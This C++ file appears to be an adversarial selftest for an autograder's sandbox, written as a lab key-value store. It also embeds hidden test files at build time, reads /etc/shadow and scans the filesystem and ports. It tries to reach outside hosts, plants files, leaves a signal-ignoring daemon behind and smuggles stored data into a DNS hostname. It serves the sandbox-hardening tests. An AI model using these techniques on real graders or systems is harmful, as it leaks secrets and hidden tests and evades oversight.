// Adversary (selftest): the lab-01 store of the reference solution, which also tries every way
// out of its sandbox. Whatever it finds is served first by GET /store (a public test then fails
// and shows it: a hidden byte would reach the student's feedback). It logs the values it
// stores, so the lab's log check fails, without a hidden byte in that check's message.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cctype>
#include <deque>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <thread>
#include <vector>

#include <web/like.hpp>
#include <web/url.hpp>

#include "app.hpp"

namespace fs = std::filesystem;
using web::json, web::OPEN, web::Error;

// At build time: the compiler reads what the sandbox lets it read (the selftest writes the
// repository's and the hidden tests' folders in place of @ROOT@ and @HIDDEN@).
#if __has_include("@ROOT@/solutions/01-rest/app.cpp")
#define SOLUTION_SEEN "the reference solution, at build time"
#endif
#if __has_include("@HIDDEN@/03-canary.hurl")
asm(".pushsection .rodata\n.globl hidden_test\nhidden_test:\n"
    ".incbin \"@HIDDEN@/03-canary.hurl\"\n.byte 0\n.popsection");
extern "C" const char hidden_test[];
#define HIDDEN_SEEN hidden_test
#endif

namespace {

// Where a file outlives a grading if the sandbox lets it write there.
const std::vector<std::string> shared_places = {"/tmp", "/var/tmp", "/dev/shm", "/", "@ROOT@"};
// Requests this grading recorded, in its own folder (the server's working directory).
constexpr const char* own_recording = "recorded-requests";

std::string head(const fs::path& file) {
  std::ifstream in(file);
  std::string text(2000, '\0');
  in.read(text.data(), static_cast<std::streamsize>(text.size()));
  text.resize(static_cast<std::size_t>(in.gcount()));
  return text;
}

// A listener at address:port (blocking: on loopback a closed port refuses at once).
bool can_connect(const char* address, int port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<std::uint16_t>(port));
  inet_pton(AF_INET, address, &a.sin_addr);
  timeval timeout{0, 200000};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof timeout);
  bool ok = connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
  // A socket whose own ephemeral port is the one it tries connects to itself.
  sockaddr_in self{};
  socklen_t size = sizeof self;
  getsockname(fd, reinterpret_cast<sockaddr*>(&self), &size);
  close(fd);
  return ok && self.sin_port != a.sin_port;
}

// Everything that got out of the sandbox, in the order found.
std::vector<std::string> probe() {
  std::vector<std::string> found;
#ifdef HIDDEN_SEEN
  found.push_back(HIDDEN_SEEN);
#endif
#ifdef SOLUTION_SEEN
  found.push_back(SOLUTION_SEEN);
#endif
  for (const char* file : {"@HIDDEN@/03-canary.hurl", "@ROOT@/solutions/01-rest/app.cpp",
                           "@ROOT@/grader/tests/01-rest/01-version-and-list.hurl", "/etc/shadow"}) {
    if (std::ifstream(file)) found.push_back(head(file));
  }
  // Test files, solutions and the grader's files anywhere it can look (bounded: 50,000 entries).
  std::deque<fs::path> folders{"/"};
  std::error_code error;
  for (int seen = 0; !folders.empty() && seen < 50000; folders.pop_front()) {
    for (fs::directory_iterator it(folders.front(), error), end; it != end; it.increment(error)) {
      const fs::path& path = it->path();
      if (++seen >= 50000 || path == "/proc" || path == "/sys" || path == "/usr") continue;
      if (it->is_directory(error) && !it->is_symlink(error)) folders.push_back(path);
      if (path.extension() == ".hurl" || path.filename() == "grader.json" ||
          path.filename().string().rfind(".s.PGSQL.", 0) == 0) {
        found.push_back(path.string() + ": " + head(path));
      }
    }
  }
  // Requests an earlier grading recorded where files outlive it.
  for (const auto& place : shared_places) {
    fs::path recording = fs::path(place) / "adversary-recording";
    if (fs::exists(recording, error)) found.push_back("replayed: " + head(recording));
  }
  // Every port: nothing listens in its own network yet; then the outside world.
  for (int port = 1; port < 65536; ++port) {
    if (can_connect("127.0.0.1", port)) found.push_back("port " + std::to_string(port));
  }
  for (const char* address : {"1.1.1.1", "10.0.2.2", "192.168.1.1"}) {
    if (can_connect(address, 80)) found.push_back(std::string("reached ") + address);
  }
  return found;
}

// Marks wherever it can write, and a process meant to outlive the grading.
void stay() {
  for (const auto& place : shared_places) {
    std::ofstream(fs::path(place) / "adversary-was-here") << "written by a graded submission\n";
  }
  for (const char* place : {"/etc", "/usr", "@ROOT@/solutions", "@HIDDEN@", ".."}) {
    std::ofstream(fs::path(place) / "adversary-was-here") << "written by a graded submission\n";
  }
  if (fork() == 0) {
    setsid();
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    if (fork() == 0) {
      for (;;) pause();
    }
    _exit(0);
  }
}

void record(const std::string& line) {
  std::cerr << "stored " << line << std::endl;
  std::ofstream(own_recording, std::ios::app) << line << "\n";
  for (const auto& place : shared_places) {
    std::ofstream(fs::path(place) / "adversary-recording", std::ios::app) << line << "\n";
  }
}

// Once a hidden test has stored something, the next server names a host made of it in its
// ready line: a grader that resolved that name would send hidden data to a DNS server.
void relay_ready_line() {
  std::string recorded = head(own_recording);
  if (recorded.empty()) return;
  std::string host;
  for (char c : recorded) host += std::isalnum(static_cast<unsigned char>(c)) ? c : '-';
  int pipe_fds[2];
  if (pipe(pipe_fds) != 0) return;
  int out = dup(1);
  dup2(pipe_fds[1], 1);
  close(pipe_fds[1]);
  std::thread([in = pipe_fds[0], out, host = host.substr(0, 60) + ".invalid"] {
    FILE* lines = fdopen(in, "r");
    char buffer[4096];
    while (fgets(buffer, sizeof buffer, lines)) {
      std::string line = buffer;
      const std::string prefix = "listening on http://";
      if (line.rfind(prefix, 0) == 0) line = prefix + host + line.substr(line.rfind(':'));
      (void)!write(out, line.data(), line.size());
    }
  }).detach();
}

void require_non_empty(const std::string& name, const std::string& value) {
  if (value.empty()) throw Error(400, "parameter \"" + name + "\" must not be empty");
}

}  // namespace

Kiva::Kiva() : web::App("kiva") {
  static const std::vector<std::string> found = probe();
  stay();
  relay_ready_line();
  on_init([this] { store_ = {{"calvin", "hobbes"}, {"hobbes", "susie"}, {"susie", "derkins"}}; });

  // GET /version: which app answers
  get("/version", OPEN, [this] { return json{{"app", name()}}; });

  // GET /store: what it found, then every pair by key (or those whose key is LIKE filter)
  get("/store", OPEN, {"filter"}, [this](std::optional<std::string> filter) {
    std::lock_guard lock(mutex_);
    json pairs = json::array();
    for (const auto& what : found) pairs.push_back({{"key", "found"}, {"val", what}});
    for (const auto& [key, val] : store_) {
      if (filter.value_or("").empty() || web::like(key, *filter)) {
        pairs.push_back({{"key", key}, {"val", val}});
      }
    }
    return pairs;
  });

  // POST /store: add a pair, 201 with its location; 409 if the key exists
  post("/store", OPEN, {"key", "val"}, [this](std::string key, std::string val) {
    require_non_empty("key", key);
    require_non_empty("val", val);
    record(key + "=" + val);
    std::lock_guard lock(mutex_);
    if (!store_.emplace(key, val).second) throw Error(409, "key already exists: " + key);
    return web::reply(201, {{"key", key}}).header("Location", "/store/" + web::url_encode(key));
  });

  // GET /store/<key>: one pair; 404 if there is no such key
  get("/store/<key>", OPEN, {"key"}, [this](std::string key) {
    std::lock_guard lock(mutex_);
    auto it = store_.find(key);
    if (it == store_.end()) throw Error(404, "no such key: " + key);
    return json{{"key", key}, {"val", it->second}};
  });

  // PUT or PATCH /store/<key>: replace the value, 204; 404 if there is no such key
  route({"PUT", "PATCH"}, "/store/<key>", OPEN, {"key", "val"},
        [this](std::string key, std::string val) {
          require_non_empty("val", val);
          record(key + "=" + val);
          std::lock_guard lock(mutex_);
          auto it = store_.find(key);
          if (it == store_.end()) throw Error(404, "no such key: " + key);
          it->second = val;
        });

  // DELETE /store/<key>: remove one pair, 204; 404 if there is no such key
  del("/store/<key>", OPEN, {"key"}, [this](std::string key) {
    std::lock_guard lock(mutex_);
    if (store_.erase(key) == 0) throw Error(404, "no such key: " + key);
  });

  // DELETE /store: remove every pair, 204
  del("/store", OPEN, [this] {
    std::lock_guard lock(mutex_);
    store_.clear();
  });
}
